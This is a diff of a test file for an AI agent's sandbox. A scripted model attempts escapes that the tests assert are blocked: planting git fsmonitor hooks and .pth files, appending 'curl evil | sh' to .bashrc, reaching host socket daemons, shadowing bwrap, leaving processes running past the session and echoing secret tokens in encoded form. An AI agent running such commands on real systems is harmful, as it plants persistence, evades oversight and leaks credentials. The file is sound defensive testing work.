@@ -14,9 +14,10 @@ import pytest
 from helpers import SANDBOX_PYTHON, pids_running, sleep_token
 
 from anges.agents import DefaultAgent
+from anges.command_runner import CommandRunner
 from anges.config import load_config
 from anges.models.scripted import ScriptedModel
-from anges.sandbox import CommandRunner, SandboxSettings, availability, hidden_paths
+from anges.sandbox import SandboxSettings, availability, hidden_paths
 from anges.shell import run_command
 
 PYTHON = SANDBOX_PYTHON
@@ -74,8 +75,8 @@ def test_a_workspace_write_is_kept_and_a_write_outside_fails_and_says_why(work, 
     assert str(work) in event.data["blocked"] and "escalate" in event.content
     environment = model.prompts[0].split("# Environment")[1].split("# History")[0]
     assert f"- Sandbox: commands see the file system read-only, except {work} and a private /tmp" in environment
-    assert "The network is off." in environment and "may ask to run outside it" in environment
-    assert "- `escalate` (string, optional)" in model.prompts[0]
+    assert "The network is off." in environment and "Commands cannot leave the sandbox in this session" in environment
+    assert "- `escalate` (string, optional)" not in model.prompts[0]  # --approval auto does not let commands out
 
 
 @pytest.mark.sandbox
@@ -281,10 +282,12 @@ def test_escalated_command_runs_outside_the_sandbox_when_approved(work, tmp_path
     outside = tmp_path / "cache"
     outside.mkdir()
     escalate = shell(f"echo installed > '{outside}/pkg'", escalate="writing the package cache")
-    stream, _ = run_agent(work, [reply(escalate), complete()], approval="auto")
+    stream, model = run_agent(work, [reply(escalate), complete()], approval="auto", auto_escalate=True)
 
     event = actions(stream)[0]
     assert (outside / "pkg").read_text() == "installed\n"
+    environment = model.prompts[0].split("# Environment")[1].split("# History")[0]
+    assert "(`escalate` in RUN_SHELL_CMD); in this session it is approved automatically." in environment
     assert event.data["escalated"] is True and event.data["sandbox"] == "none"
     assert event.data["approval"]["by"] == "auto" and event.data["approval"]["rule"] == "escalation"
 
@@ -336,9 +339,360 @@ def test_killing_the_anges_process_ends_the_runs_processes(work, sandbox):
     assert not any(path.exists() for path in stale)
 
 
+# -- the review of the safety layer: host sockets, code the host runs, the runner, secrets -----------------------
+
+
+class CommandServer:
+    """A host daemon on a Unix socket that runs whatever it receives (what D-Bus or Docker amount to)."""
+
+    def __init__(self, path):
+        self.path = str(path)
+        self.received = []
+        self.sock = socket.socket(socket.AF_UNIX)
+        self.sock.bind(self.path)
+        self.sock.listen()
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                command = conn.recv(4096).decode()
+                self.received.append(command)
+                os.system(command)
+                conn.sendall(b"done")
+
+    def close(self):
+        self.sock.close()
+        if os.path.exists(self.path):
+            os.unlink(self.path)
+
+
+def reach(path, marker):
+    """A command that asks the daemon at `path` to create `marker` on the host."""
+    code = (f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(path)!r}); "
+            f"s.sendall(b'touch {marker}'); print(s.recv(9).decode())")
+    return f"{PYTHON} -c \"{code}\" 2>&1 | tail -1"
+
+
+@pytest.mark.sandbox
+@pytest.mark.parametrize("network", [False, True])
+def test_host_unix_sockets_are_out_of_reach(work, outside, monkeypatch, network):
+    runtime = outside / "runtime"
+    runtime.mkdir()
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
+    places = {"run": Path(f"/run/anges-test-{os.getpid()}-{network}.sock"), "xdg": runtime / "bus",
+              "elsewhere": outside / "daemon.sock", "workspace": work / "dev.sock"}
+    servers = {name: CommandServer(path) for name, path in places.items()}
+    markers = {name: outside / f"reached-{name}" for name in places}
+    try:
+        steps = [reply(*(shell(reach(places[name], markers[name])) for name in places)), complete()]
+        stream, _ = run_agent(work, steps, network=network)
+    finally:
+        for server in servers.values():
+            server.close()
+
+    results = [e.data["stdout"] for e in actions(stream)]
+    assert not any(marker.exists() for marker in markers.values()), results
+    assert all(not server.received for server in servers.values())
+    assert all("done" not in result for result in results) and len(results) == 4
+
+
+@pytest.mark.sandbox
+def test_with_the_network_on_name_resolution_still_works(work, tmp_path, monkeypatch):
+    import anges.sandbox as sandbox
+
+    stub = Path(tempfile.mkdtemp(prefix="anges-test-resolve-", dir="/tmp")) / "stub-resolv.conf"
+    stub.write_text("nameserver 127.0.0.53  # a resolver file in a private directory\n")
+    link = tmp_path / "resolv.conf"
+    link.symlink_to(stub)
+    monkeypatch.setattr(sandbox, "RESOLV_CONF", str(link))  # as systemd-resolved links /etc/resolv.conf into /run
+    try:
+        stream, _ = run_agent(work, [reply(shell(f"cat {stub}"), shell("getent hosts localhost"),
+                                           shell("cat /etc/resolv.conf")), complete()], network=True)
+        closed, _ = run_agent(work, [reply(shell(f"cat {stub}")), complete()])
+    finally:
+        shutil.rmtree(stub.parent)
+
+    stub_read, localhost, resolv = actions(stream)
+    assert stub_read.data["stdout"] == "nameserver 127.0.0.53  # a resolver file in a private directory\n"
+    assert localhost.data["exit_code"] == 0 and "localhost" in localhost.data["stdout"]
+    assert resolv.data["stdout"] == Path("/etc/resolv.conf").read_text()
+    assert actions(closed)[0].data["exit_code"] != 0  # without the network it stays private
+
+
+@pytest.mark.sandbox
+def test_code_the_host_runs_stays_read_only_in_the_workspace(work, monkeypatch):
+    import subprocess
+
+    subprocess.run(["git", "init", "-q", str(work)], check=True)
+    site = work / ".venv" / "lib" / "site-packages"
+    site.mkdir(parents=True)
+    (work / "plugin").mkdir()
+    (work / "plugin" / "__init__.py").write_text("")
+    monkeypatch.syspath_prepend(str(site))
+    monkeypatch.syspath_prepend(str(work / "nowhere-yet"))  # on the path but missing: nothing to protect
+    monkeypatch.setitem(sys.modules, "plugin", type(sys)("plugin"))
+    sys.modules["plugin"].__file__ = str(work / "plugin" / "__init__.py")
+    attempts = ["git config core.fsmonitor 'touch /tmp/pwned'", "echo 'import os' > .venv/lib/site-packages/zz.pth",
+                "echo 'x = 1' >> plugin/__init__.py", "mkdir -p src && echo ok > src/app.py"]
+    stream, _ = run_agent(work, [reply(*(shell(c) for c in attempts)), complete()])
+
+    git, pth, plugin, app = actions(stream)
+    for event in (git, pth, plugin):
+        assert event.data["exit_code"] != 0 and "Read-only file system" in event.data["stderr"] + event.data["stdout"]
+    assert "fsmonitor" not in (work / ".git" / "config").read_text()
+    assert not (site / "zz.pth").exists() and (work / "plugin" / "__init__.py").read_text() == ""
+    assert app.data["exit_code"] == 0 and (work / "src" / "app.py").read_text() == "ok\n"  # the rest is writable
+
+
+def test_the_templates_and_defaults_anges_reads_stay_read_only_when_the_work_holds_them(tmp_path):
+    import subprocess
+
+    # In a source checkout (an editable install) they lie beside the package. A template is code (Jinja2
+    # reaches Python objects from what it is given); config.yaml holds the default rules. (A fresh process:
+    # pytest puts the checkout itself on sys.path, which protects it whole.)
+    code = ("import os; from anges.config import load_config, resource_path; from anges.sandbox import SandboxSettings\n"
+            "found = [str(resource_path(n).resolve()) for n in ('prompt_templates', 'web', 'config.yaml')]\n"
+            "settings = SandboxSettings.for_run(load_config().safety, os.path.dirname(os.path.commonpath(found)))\n"
+            "print([path for path in found if not settings.is_protected(path)])")
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=tmp_path)
+    assert done.stdout == "[]\n", done.stdout + done.stderr
+
+
+def test_in_process_edits_of_protected_paths_ask(work, monkeypatch):
+    from anges.policy import Policy
+
+    (work / ".git").mkdir()
+    (work / ".git" / "config").write_text("[core]\n")
+    config = load_config()
+    settings = SandboxSettings.for_run(config.safety, str(work))
+    policy = Policy(config.safety, settings, str(work), sandboxed=True)
+
+    git = policy.decide("EDIT_FILE", {"directive_line": "INSERT_LINES .git/config -1", "content": "x"})
+    plain = policy.decide("EDIT_FILE", {"directive_line": "NEW_FILE notes.txt"})
+
+    assert (git.decision, git.rule) == ("ask", "protected_paths") and str(work / ".git") in settings.protected
+    assert plain.decision == "allow"
+
+
+@pytest.mark.sandbox
+def test_an_interpreter_under_tmp_still_runs_the_sandbox(tmp_path):
+    import subprocess
+
+    venv = Path(tempfile.mkdtemp(prefix="anges-test-venv-", dir="/tmp")) / "venv"
+    try:
+        subprocess.run([PYTHON, "-m", "venv", "--without-pip", str(venv)], check=True)
+        repo = Path(__file__).resolve().parent.parent
+        code = ("import sys; sys.path[:0] = [sys.argv[1]] + sys.argv[2:]\n"
+                "from anges.command_runner import CommandRunner\n"
+                "from anges.sandbox import SandboxSettings, availability\n"
+                "from anges.shell import run_command\n"
+                "runner = CommandRunner(sys.argv[1], SandboxSettings(writable=(sys.argv[1],)), availability().bwrap)\n"
+                "print(run_command('echo sandboxed', cwd=sys.argv[1], runner=runner).stdout, end='')\n"
+                "runner.close()\n")
+        packages = [p for p in sys.path if p.endswith("site-packages")]
+        done = subprocess.run([str(venv / "bin" / "python"), "-c", code, str(tmp_path), str(repo), *packages],
+                              capture_output=True, text=True, timeout=60)
+    finally:
+        shutil.rmtree(venv.parent)
+    assert done.stdout == "sandboxed\n", done.stderr
+
+
+@pytest.mark.sandbox
+def test_mounts_nest_whatever_order_the_paths_come_in(tmp_path):
+    import subprocess
+
+    # The interpreter's own directory (under the private /tmp, so bound back) holds the work and a hidden
+    # directory around a second work folder (as ANGES_HOME holds a batch's work dirs): the bind of the
+    # interpreter must not cover them, nor may the hidden directory show through.
+    root = Path(tempfile.mkdtemp(prefix="anges-test-nest-", dir="/tmp"))
+    venv, home = root / "venv", root / "venv" / "home"
+    try:
+        subprocess.run([PYTHON, "-m", "venv", "--without-pip", str(venv)], check=True)
+        (home / "work").mkdir(parents=True)
+        (home / "secret.txt").write_text("hidden\n")
+        (venv / "work").mkdir()
+        repo = Path(__file__).resolve().parent.parent
+        code = ("import sys; sys.path[:0] = sys.argv[3:]\n"
+                "from anges.command_runner import CommandRunner\n"
+                "from anges.sandbox import SandboxSettings, availability\n"
+                "from anges.shell import run_command\n"
+                "work, home = sys.argv[1], sys.argv[2]; inner = home + '/work'\n"
+                "settings = SandboxSettings(writable=(work, inner), hidden=(home,), workdir=work)\n"
+                "runner = CommandRunner(work, settings, availability().bwrap)\n"
+                "command = 'echo a > made.txt; echo b > ../home/work/made.txt; ls ../home; cat ../home/secret.txt'\n"
+                "print(run_command(command, cwd=work, runner=runner).stdout, end='')\n"
+                "runner.close()\n")
+        packages = [p for p in sys.path if p.endswith("site-packages")]
+        done = subprocess.run([str(venv / "bin" / "python"), "-c", code, str(venv / "work"), str(home), str(repo),
+                               *packages], capture_output=True, text=True, timeout=60)
+        made = [(venv / "work" / "made.txt").exists(), (home / "work" / "made.txt").exists()]
+    finally:
+        shutil.rmtree(root)
+    assert done.stdout == "work\n" and made == [True, True], done.stderr
+
+
+@pytest.mark.sandbox
+def test_bwrap_comes_from_the_system_not_from_path(work, tmp_path, monkeypatch):
+    fake_bin = work / ".venv" / "bin"
+    fake_bin.mkdir(parents=True)
+    marker = tmp_path / "fake-bwrap-ran"
+    (fake_bin / "bwrap").write_text(f"#!/bin/sh\ntouch '{marker}'\nexec /usr/bin/bwrap \"$@\"\n")
+    (fake_bin / "bwrap").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{fake_bin}:{os.environ['PATH']}")
+
+    stream, _ = run_agent(work, [reply(shell("echo in the sandbox")), complete()])
+    inside, _ = run_agent(work, [reply(shell("echo ran")), complete()], bwrap=str(fake_bin / "bwrap"),
+                          approval="deny")
+    missing, model = run_agent(work, [reply(shell("echo ran")), complete()], bwrap=str(tmp_path / "no" / "bwrap"),
+                               approval="deny")
+
+    assert actions(stream)[0].data["sandbox"] == "workspace" and not marker.exists()
+    assert not actions(inside) and not marker.exists()  # a bwrap the run's commands could write is refused
+    assert "lies in a directory commands may write" in inside.events_list[1].data["reason"]
+    assert not actions(missing) and f"bwrap was not found at {tmp_path / 'no' / 'bwrap'}" in model.prompts[0]
+
+
+@pytest.mark.sandbox
+def test_a_runner_killed_from_inside_is_replaced_for_the_next_command(work):
+    steps = [reply(shell("kill -9 $PPID; sleep 1")), reply(shell("echo still working")), complete()]
+    stream, _ = run_agent(work, steps)
+
+    killed, after = actions(stream)
+    assert killed.data["exit_code"] != 0
+    assert after.data["stdout"] == "still working\n" and after.data["exit_code"] == 0
+
+
+FORK_HOP = ("import os, sys, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
+            "time.sleep(float(sys.argv[1]))")
+
+
+@pytest.mark.sandbox
+@pytest.mark.parametrize("contain", [True, False])
+def test_without_the_sandbox_no_process_outlives_the_run_even_if_it_kills_the_runner(work, contain):
+    detached, hopper = sleep_token(), sleep_token()
+    hop = work / "hop.py"
+    hop.write_text(FORK_HOP)
+    seen = {}
+
+    def kill_the_runner(prompt):
+        seen["during"] = bool(pids_running(detached)) and bool(pids_running(hopper))
+        return reply(shell("kill -9 $PPID"))
+
+    steps = [reply(shell(f"setsid sleep {detached} & {PYTHON} {hop} {hopper}; sleep 0.3")), kill_the_runner,
+             complete()]
+    run_agent(work, steps, sandbox="off", approval="auto", contain_unsandboxed=contain)
+
+    assert seen["during"], "the test's processes never ran"
+    deadline = time.monotonic() + 3
+    while (pids_running(detached) or pids_running(hopper)) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert not pids_running(detached) and not pids_running(hopper), "a process outlived the run"
+
+
+@pytest.mark.sandbox
+def test_commands_outside_the_sandbox_cannot_see_the_agent_process(work):
+    stream, _ = run_agent(work, [reply(shell(f"test -e /proc/{os.getpid()}/environ && echo visible || echo gone")),
+                                 complete()], sandbox="off", approval="auto")
+    assert actions(stream)[0].data["stdout"] == "gone\n"
+
+
+def test_anges_makes_its_own_process_undumpable():
+    import subprocess
+
+    code = ("import ctypes; from anges.sandbox import protect_process_memory; libc = ctypes.CDLL(None)\n"
+            "before = libc.prctl(3, 0, 0, 0, 0); protect_process_memory(); print(before, libc.prctl(3, 0, 0, 0, 0))")
+    done = subprocess.run([PYTHON, "-c", code], capture_output=True, text=True, timeout=30)
+    assert done.stdout.split() == ["1", "0"], done.stderr
+
+
+def test_secret_variables_and_configured_key_names_are_not_given_to_commands(work, monkeypatch):
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_github-token-material")
+    monkeypatch.setenv("AWS_SESSION_TOKEN", "aws-session-token-material")
+    monkeypatch.setenv("MY_LLM_KEY", "my-llm-key-material")
+    monkeypatch.setenv("SHARED_TOKEN", "shared-token-material")
+    monkeypatch.setenv("HARMLESS_SETTING", "visible-setting")
+    overrides = {"safety": {"sandbox": "off", "approval": "auto"},
+                 "models": {"mine": {"provider": "openai", "model": "m", "api_key_env": "MY_LLM_KEY"}},
+                 "agents": {"common": {"pass_env": ["SHARED_TOKEN"]}}}
+    command = ("echo $GITHUB_TOKEN | rev; echo $AWS_SESSION_TOKEN | base64; echo $MY_LLM_KEY | rev; "
+               "echo $SHARED_TOKEN; echo $HARMLESS_SETTING")
+    model = ScriptedModel([reply(shell(command)), complete()])
+    agent = DefaultAgent(inference_func=model, cmd_init_dir=work, config=load_config(overrides=overrides))
+    stream = agent.run_with_new_request("test")
+
+    output = actions(stream)[0].data["stdout"]
+    assert output == "\nCg==\n\n[REDACTED]\nvisible-setting\n"  # absent; one passed through is there, masked
+
+
+def test_the_hidden_list_covers_more_credential_places_and_the_files_anges_read(tmp_path, monkeypatch, anges_home):
+    from anges.mcp import load_mcp_servers
+
+    home = tmp_path / "home"
+    xdg = tmp_path / "xdg"
+    for name in (".pgpass", ".vault-token", ".bash_history", ".config/rclone/rclone.conf",
+                 ".cache/huggingface/token", ".password-store/x.gpg", ".local/share/keyrings/login.keyring"):
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).write_text("secret")
+    (xdg / "git").mkdir(parents=True)
+    (xdg / "git" / "credentials").write_text("https://user:pw@example.com\n")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(xdg))
+    env_config = tmp_path / "from-env.yaml"
+    env_config.write_text("safety: {}\n")
+    monkeypatch.setenv("ANGES_CONFIG", str(env_config))
+    given = tmp_path / "given.yaml"
+    given.write_text("safety: {}\n")
+    mcp = tmp_path / "mcp.json"
+    mcp.write_text('{"mcpServers": {"x": {"command": "x", "env": {"K": "v"}}}}')
+    load_config(given)
+    load_mcp_servers(mcp)
+
+    hidden = set(hidden_paths(load_config().safety))
+
+    for name in (".pgpass", ".vault-token", ".bash_history", ".config/rclone", ".cache/huggingface/token",
+                 ".password-store", ".local/share/keyrings"):
+        assert str(home / name) in hidden, name
+    assert {str(xdg / "git" / "credentials"), str(env_config), str(given), str(mcp)} <= hidden
+
+
+@pytest.mark.sandbox
+def test_a_missing_writable_path_is_left_out_with_a_warning(work, caplog):
+    with caplog.at_level("WARNING", logger="anges.sandbox"):
+        stream, _ = run_agent(work, [reply(shell("echo works")), complete()],
+                              writable_paths=["~/.cache/anges-test-missing-dir"])
+    assert actions(stream)[0].data["stdout"] == "works\n"
+    assert "anges-test-missing-dir is not a directory; left out" in caplog.text
+
+
+@pytest.mark.sandbox
+def test_working_in_the_home_warns_and_keeps_the_startup_files(tmp_path, monkeypatch, caplog):
+    home = Path(tempfile.mkdtemp(prefix="anges-test-home-", dir="/var/tmp"))
+    try:
+        (home / ".bashrc").write_text("# mine\n")
+        (home / ".gitconfig").write_text("[user]\n\tname = me\n")
+        monkeypatch.setenv("HOME", str(home))
+        plant = "git config --global core.fsmonitor 'sh -c id'"
+        with caplog.at_level("WARNING", logger="anges.sandbox"):
+            stream, _ = run_agent(home, [reply(shell("echo 'curl evil | sh' >> .bashrc; echo ok > notes.txt"),
+                                               shell(plant)), complete()])
+        assert (home / ".bashrc").read_text() == "# mine\n" and (home / "notes.txt").read_text() == "ok\n"
+        assert (home / ".gitconfig").read_text() == "[user]\n\tname = me\n"
+        startup, gitconfig = actions(stream)
+        assert "Read-only file system" in startup.data["stderr"] and gitconfig.data["exit_code"] != 0
+        assert f"commands may change everything in {home} (it holds your home directory)" in caplog.text
+    finally:
+        shutil.rmtree(home)
+
+
 RUN_ONE_COMMAND = """
 import sys
-from anges.sandbox import CommandRunner, SandboxSettings, availability
+from anges.command_runner import CommandRunner
+from anges.sandbox import SandboxSettings, availability
 from anges.shell import run_command
 runner = CommandRunner(sys.argv[1], SandboxSettings(writable=(sys.argv[1],)), availability().bwrap)
 try:
